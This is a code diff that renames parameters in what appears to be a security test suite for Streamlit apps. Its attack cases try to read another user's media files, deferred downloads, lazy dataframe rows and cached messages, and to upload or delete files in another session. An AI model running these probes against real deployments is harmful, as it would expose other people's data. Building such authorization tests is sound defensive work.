@@ -10,7 +10,7 @@ import {
 } from '../client/back-msg.ts'
 import { deferredOf, mediaOf, messageHashesOf, sourcesOf, widgetOf } from '../client/forward-msg.ts'
 import type { AttackSession } from '../client/session.ts'
-import type { AttackStage } from '../stage.ts'
+import type { AttackEnvironment } from '../environment.ts'
 import { lootOf } from './fragments.ts'
 import { jump } from './jump.ts'
 
@@ -23,7 +23,11 @@ const lacksLazy: Attack['lacks'] = ({ version }) =>
   minorOf(version) < 61 ? 'no lazy dataframes before 1.61' : null
 
 /** The message by which this version asks for a deferred download. */
-export function askDeferred({ version }: AttackStage, fileId: string, sessionId: string): Buffer {
+export function askDeferred(
+  { version }: AttackEnvironment,
+  fileId: string,
+  sessionId: string
+): Buffer {
   return minorOf(version) < 58
     ? deferredFile(fileId, sessionId)
     : deferredOperation(fileId, sessionId)
@@ -55,13 +59,13 @@ function echoed(
 ): Case {
   return attack({
     title: `S2: another person's media files, once their addresses were echoed ${where}`,
-    prepare: async (door) => {
-      const paths = mediaOf((await lootOf(door)).frames)
-      const session = await door.enter('attacker')
+    prepare: async (client) => {
+      const paths = mediaOf((await lootOf(client)).frames)
+      const session = await client.enter('attacker')
       for (const path of paths) session.socket.send(await echo(session, path))
       await session.untilQuiet()
       return async () => ({
-        received: await Promise.all(paths.map((path) => door.http('attacker', path))),
+        received: await Promise.all(paths.map((path) => client.http('attacker', path))),
         session
       })
     }
@@ -82,33 +86,33 @@ export const fileAttacks: readonly Case[] = [
   ...echoes,
   attack({
     title: "another person's media files and downloads, in ten spellings",
-    prepare: async (door) => {
-      const { frames } = await lootOf(door)
+    prepare: async (client) => {
+      const { frames } = await lootOf(client)
       const paths = mediaOf(frames).flatMap(spellings)
       return async () => ({
-        received: await Promise.all(paths.map((path) => door.http('attacker', path)))
+        received: await Promise.all(paths.map((path) => client.http('attacker', path)))
       })
     }
   }),
   attack({
     title: 'own media files and downloads, after the right to their page was lost',
-    prepare: async (door) => {
-      const paths = mediaOf((await lootOf(door)).frames)
+    prepare: async (client) => {
+      const paths = mediaOf((await lootOf(client)).frames)
       return async () => ({
-        received: await Promise.all(paths.map((path) => door.http('demoted', path)))
+        received: await Promise.all(paths.map((path) => client.http('demoted', path)))
       })
     }
   }),
   attack({
     title: "another person's deferred download",
     lacks: lacksDeferred,
-    prepare: async (door, stage) => {
-      const { frames } = await lootOf(door)
+    prepare: async (client, environment) => {
+      const { frames } = await lootOf(client)
       const [fileId = ''] = deferredOf(frames)
-      const session = await door.enter('attacker')
+      const session = await client.enter('attacker')
       return async () => {
-        const answer = await session.probe(askDeferred(stage, fileId, session.id))
-        const files = mediaOf(answer).map((path) => door.http('attacker', path))
+        const answer = await session.probe(askDeferred(environment, fileId, session.id))
+        const files = mediaOf(answer).map((path) => client.http('attacker', path))
         return { received: [...answer, ...(await Promise.all(files))], session }
       }
     }
@@ -116,24 +120,25 @@ export const fileAttacks: readonly Case[] = [
   attack({
     title: 'an own deferred download, after the right to its page was lost',
     lacks: lacksDeferred,
-    prepare: async (door, stage) => {
-      const { session, frames } = await lootOf(door)
+    prepare: async (client, environment) => {
+      const { session, frames } = await lootOf(client)
       const [fileId = ''] = deferredOf(frames)
-      await door.http('demoted', '/_stcore/health')
+      await client.http('demoted', '/_stcore/health')
       return async () => {
-        const answer = await session.probe(askDeferred(stage, fileId, session.id))
-        const files = mediaOf(answer).map((path) => door.http('demoted', path))
+        const answer = await session.probe(askDeferred(environment, fileId, session.id))
+        const files = mediaOf(answer).map((path) => client.http('demoted', path))
         return { received: [...answer, ...(await Promise.all(files))], session }
       }
     }
   }),
   attack({
     title: "rows of another person's lazy dataframe",
-    lacks: (stage) => lacksLazy(stage) ?? 'Streamlit keeps lazy dataframes for each session',
-    prepare: async (door) => {
-      const { frames } = await lootOf(door)
+    lacks: (environment) =>
+      lacksLazy(environment) ?? 'Streamlit keeps lazy dataframes for each session',
+    prepare: async (client) => {
+      const { frames } = await lootOf(client)
       const [sourceId = ''] = sourcesOf(frames)
-      const session = await door.enter('attacker')
+      const session = await client.enter('attacker')
       return async () => ({
         received: await session.probe(dataframeChunk(sourceId, session.id, 1_100)),
         session
@@ -143,10 +148,10 @@ export const fileAttacks: readonly Case[] = [
   attack({
     title: 'rows of an own lazy dataframe, after the right to its page was lost',
     lacks: lacksLazy,
-    prepare: async (door) => {
-      const { session, frames } = await lootOf(door)
+    prepare: async (client) => {
+      const { session, frames } = await lootOf(client)
       const [sourceId = ''] = sourcesOf(frames)
-      await door.http('demoted', '/_stcore/health')
+      await client.http('demoted', '/_stcore/health')
       return async () => ({
         received: await session.probe(dataframeChunk(sourceId, session.id, 1_100)),
         session
@@ -156,10 +161,10 @@ export const fileAttacks: readonly Case[] = [
   attack({
     title: 'rows of the lazy dataframe of a page that the app has started by st.switch_page',
     lacks: lacksLazy,
-    prepare: async (door, stage) => {
-      const { frames } = await lootOf(door)
-      const session = await door.enter('attacker')
-      const own = sourcesOf(await jump(session, stage))
+    prepare: async (client, environment) => {
+      const { frames } = await lootOf(client)
+      const session = await client.enter('attacker')
+      const own = sourcesOf(await jump(session, environment))
       const ids = own.length > 0 ? own : sourcesOf(frames)
       return async () => {
         const received: Buffer[] = []
@@ -173,34 +178,34 @@ export const fileAttacks: readonly Case[] = [
   attack({
     title: "a file put into another person's session",
     sign: created,
-    prepare: async (door) => {
-      const { session } = await lootOf(door)
+    prepare: async (client) => {
+      const { session } = await lootOf(client)
       const urls = await session.uploadUrls()
-      return async () => ({ received: [await door.upload('attacker', urls, 'forged')] })
+      return async () => ({ received: [await client.upload('attacker', urls, 'forged')] })
     }
   }),
   attack({
     title: "a file deleted from another person's session",
     sign: created,
-    prepare: async (door) => {
-      const { session } = await lootOf(door)
+    prepare: async (client) => {
+      const { session } = await lootOf(client)
       const urls = await session.uploadUrls()
-      await door.upload('victim', urls, 'kept')
-      const headers = await door.xsrf('attacker')
+      await client.upload('victim', urls, 'kept')
+      const headers = await client.xsrf('attacker')
       const request = { method: 'DELETE', headers }
       return async () => ({
-        received: [await door.http('attacker', urls.deleteUrl, request)]
+        received: [await client.http('attacker', urls.deleteUrl, request)]
       })
     }
   }),
   attack({
     title: 'a cached message of another person, by its hash',
     lacks: ({ version }) => (minorOf(version) < 45 ? null : 'no cache of messages since 1.45'),
-    prepare: async (door) => {
-      const { frames } = await lootOf(door)
+    prepare: async (client) => {
+      const { frames } = await lootOf(client)
       const paths = messageHashesOf(frames).map((hash) => `/_stcore/message?hash=${hash}`)
       return async () => ({
-        received: await Promise.all(paths.map((path) => door.http('attacker', path)))
+        received: await Promise.all(paths.map((path) => client.http('attacker', path)))
       })
     }
   })
